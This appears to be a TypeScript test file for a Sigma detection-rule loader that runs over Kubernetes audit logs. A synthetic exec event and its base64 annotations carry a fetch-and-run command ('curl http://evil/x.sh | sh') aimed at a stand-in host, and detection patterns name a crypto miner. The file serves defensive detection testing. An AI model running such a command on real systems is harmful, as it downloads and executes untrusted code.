import assert from 'node:assert/strict';
import { test } from 'node:test';
import { createSigmaLoader } from '../../src/detect/sigma/sigma-loader.js';
import type { K8sAudit } from '../../src/model/event.js';
import { auditEvent, run, sigmaRule } from './events.js';

// Synthetic audit Event used by every modifier case.
const audit: K8sAudit = {
  kind: 'Event',
  verb: 'create',
  requestURI: '/api/v1/namespaces/default/pods/p1/exec?command=sh&command=-c&command=curl+-o+%2Ftmp%2Fx',
  user: { username: 'Alice@Contoso.com', groups: ['system:authenticated', 'devs'] },
  sourceIPs: ['10.1.2.3', '2001:db8::7'],
  userAgent: 'kubectl/v1.28.3 (linux/amd64) kubernetes/a8a1abc',
  objectRef: { resource: 'pods', subresource: 'exec', namespace: 'default', name: 'p1' },
  responseStatus: { code: 201 },
  stageTimestamp: '2024-05-01T03:04:05.000Z',
  annotations: {
    // base64 of "curl http://evil/x.sh | sh" and UTF-16LE + base64 of "whoami"
    payload: 'Y3VybCBodHRwOi8vZXZpbC94LnNoIHwgc2g=',
    wide: 'dwBoAG8AYQBtAGkA',
    offset: 'Zm9vIGN1cmwgaHR0cDovL2V2aWwveC5zaCB8IHNo',
    flag: 'kubectl —namespace kube-system',
    note: 'line one\nline two',
    empty: '',
  },
  requestObject: { metadata: { name: 'p1', labels: { owner: 'p1' } } },
};
const ev = auditEvent(audit, 'synthetic-modifiers');

const cases: [string, string, boolean][] = [
  ['plain equality is case-insensitive', 'sel:\n  verb: CREATE\ncondition: sel', true],
  ['cased', 'sel:\n  verb|cased: CREATE\ncondition: sel', false],
  ['contains', "sel:\n  requestURI|contains: '/exec?'\ncondition: sel", true],
  ['startswith', "sel:\n  userAgent|startswith: 'KUBECTL/'\ncondition: sel", true],
  ['endswith', "sel:\n  user.username|endswith: '@contoso.com'\ncondition: sel", true],
  ['list is OR', 'sel:\n  verb:\n    - delete\n    - create\ncondition: sel', true],
  [
    'contains|all needs every value',
    'sel:\n  requestURI|contains|all:\n    - exec\n    - curl\ncondition: sel',
    true,
  ],
  [
    'contains|all misses one',
    'sel:\n  requestURI|contains|all:\n    - exec\n    - wget\ncondition: sel',
    false,
  ],
  ['wildcard *', "sel:\n  userAgent: 'kubectl/*(linux/*'\ncondition: sel", true],
  ['wildcard ?', "sel:\n  objectRef.name: 'p?'\ncondition: sel", true],
  ['escaped \\* is literal', "sel:\n  objectRef.name: 'p\\*'\ncondition: sel", false],
  ['number equals number', 'sel:\n  responseStatus.code: 201\ncondition: sel', true],
  ['quoted number equals number', "sel:\n  responseStatus.code: '201'\ncondition: sel", true],
  ['null matches missing field', 'sel:\n  objectRef.apiGroup: null\ncondition: sel', true],
  ['null does not match present field', 'sel:\n  verb: null\ncondition: sel', false],
  ["'' matches empty string", "sel:\n  annotations.empty: ''\ncondition: sel", true],
  ["'' does not match missing", "sel:\n  objectRef.apiGroup: ''\ncondition: sel", false],
  ['exists true', 'sel:\n  objectRef.subresource|exists: true\ncondition: sel', true],
  ['exists false', 'sel:\n  objectRef.apiGroup|exists: false\ncondition: sel', true],
  ['re is case-sensitive', "sel:\n  verb|re: '^CRE'\ncondition: sel", false],
  ['re|i', "sel:\n  verb|re|i: '^CRE'\ncondition: sel", true],
  ['re without m: $ is end of text', "sel:\n  annotations.note|re: 'one$'\ncondition: sel", false],
  ['re|m: $ at line end', "sel:\n  annotations.note|re|m: 'one$'\ncondition: sel", true],
  ['re without s: . stops at newline', "sel:\n  annotations.note|re: 'one.line'\ncondition: sel", false],
  ['re|s: . matches newline', "sel:\n  annotations.note|re|s: 'one.line'\ncondition: sel", true],
  ['cidr v4', 'sel:\n  sourceIPs|cidr: 10.0.0.0/8\ncondition: sel', true],
  ['cidr v6', "sel:\n  sourceIPs|cidr: '2001:db8::/32'\ncondition: sel", true],
  ['cidr miss', 'sel:\n  sourceIPs|cidr: 192.168.0.0/16\ncondition: sel', false],
  ['base64', "sel:\n  annotations.payload|base64: 'curl http://evil/x.sh | sh'\ncondition: sel", true],
  [
    'base64offset|contains',
    "sel:\n  annotations.offset|base64offset|contains: 'curl http://evil'\ncondition: sel",
    true,
  ],
  ['wide|base64', 'sel:\n  annotations.wide|wide|base64: whoami\ncondition: sel', true],
  ['utf16le|base64', 'sel:\n  annotations.wide|utf16le|base64: whoami\ncondition: sel', true],
  ['utf16be|base64 differs', 'sel:\n  annotations.wide|utf16be|base64: whoami\ncondition: sel', false],
  [
    'windash|contains (em dash)',
    "sel:\n  annotations.flag|windash|contains: ' -namespace'\ncondition: sel",
    true,
  ],
  ['fieldref', 'sel:\n  objectRef.name|fieldref: requestObject.metadata.labels.owner\ncondition: sel', true],
  ['fieldref miss', 'sel:\n  objectRef.name|fieldref: verb\ncondition: sel', false],
  ['fieldref|startswith', 'sel:\n  requestURI|fieldref|contains: objectRef.name\ncondition: sel', true],
  ['gt', 'sel:\n  responseStatus.code|gt: 200\ncondition: sel', true],
  ['gte', 'sel:\n  responseStatus.code|gte: 201\ncondition: sel', true],
  ['lt', 'sel:\n  responseStatus.code|lt: 201\ncondition: sel', false],
  ['lte', 'sel:\n  responseStatus.code|lte: 201\ncondition: sel', true],
  ['neq', 'sel:\n  verb|neq: delete\ncondition: sel', true],
  ['neq same', 'sel:\n  verb|neq: create\ncondition: sel', false],
  ['hour', 'sel:\n  stageTimestamp|hour: 3\ncondition: sel', true],
  ['minute', 'sel:\n  stageTimestamp|minute: 4\ncondition: sel', true],
  ['day', 'sel:\n  stageTimestamp|day: 1\ncondition: sel', true],
  ['week', 'sel:\n  stageTimestamp|week: 18\ncondition: sel', true],
  ['month', 'sel:\n  stageTimestamp|month: 6\ncondition: sel', false],
  ['year', 'sel:\n  stageTimestamp|year: 2024\ncondition: sel', true],
  ['expand with placeholder values', "sel:\n  user.username|expand: '%admins%'\ncondition: sel", true],
  ['keywords search every value', "keywords:\n  - 'exec?command'\ncondition: keywords", true],
  ['keywords miss', 'keywords:\n  - xmrig\ncondition: keywords', false],
  ['list of maps is OR', 'sel:\n  - verb: delete\n  - objectRef.resource: pods\ncondition: sel', true],
  ['map is AND', 'sel:\n  verb: create\n  objectRef.resource: secrets\ncondition: sel', false],
  ['array field: any element', 'sel:\n  user.groups: devs\ncondition: sel', true],
];

for (const [name, det, want] of cases) {
  test(`modifier: ${name}`, () => {
    const loader = createSigmaLoader({ placeholders: { admins: ['root', 'alice@contoso.com'] } });
    const r = loader.load('synthetic.yml', sigmaRule(det));
    assert.deepEqual(
      r.diagnostics.filter((d) => d.severity !== 'info').map((d) => d.message),
      [],
    );
    assert.equal(r.detections.length, 1);
    assert.equal(run(r.detections, [ev]).alerts.length, want ? 1 : 0);
  });
}

test('expand without values warns and never matches', () => {
  const r = createSigmaLoader().load(
    'synthetic.yml',
    sigmaRule("sel:\n  user.username|expand: '%admins%'\ncondition: sel"),
  );
  assert.deepEqual(
    r.diagnostics.map((d) => d.code),
    ['SIG017'],
  );
  assert.equal(run(r.detections, [ev]).alerts.length, 0);
});

test("keyword list with '|all' needs every keyword", () => {
  const loader = createSigmaLoader();
  const both = loader.load(
    'k.yml',
    sigmaRule("keywords:\n  '|all':\n    - exec\n    - contoso\ncondition: keywords"),
  );
  assert.deepEqual(both.diagnostics, []);
  assert.equal(run(both.detections, [ev]).alerts.length, 1);
  const one = loader.load(
    'k2.yml',
    sigmaRule("keywords:\n  '|all':\n    - exec\n    - xmrig\ncondition: keywords"),
  );
  assert.equal(run(one.detections, [ev]).alerts.length, 0);
});

test('|re runs on a linear-time engine: backreferences are refused, nested quantifiers cannot blow up', () => {
  // A backtracking engine accepts `(a)\1`; RE2 semantics do not (SIG009 at the value).
  const back = createSigmaLoader().load('re.yml', sigmaRule("sel:\n  verb|re: '(c)\\1'\ncondition: sel"));
  assert.deepEqual(
    back.diagnostics.map((d) => d.code),
    ['SIG009'],
  );
  // `(a+)+$` over 'aaaa…!' takes exponential time on a backtracking engine and never finishes here.
  const evil = auditEvent({ ...audit, userAgent: `${'a'.repeat(5000)}!` }, 'synthetic-redos');
  const r = createSigmaLoader().load(
    'redos.yml',
    sigmaRule("sel:\n  userAgent|re: '(a+)+$'\ncondition: sel"),
  );
  assert.deepEqual(r.diagnostics, []);
  assert.equal(run(r.detections, [evil]).alerts.length, 0);
  const ok = auditEvent({ ...audit, userAgent: 'a'.repeat(5000) }, 'synthetic-redos');
  assert.equal(run(r.detections, [ok]).alerts.length, 1);
});
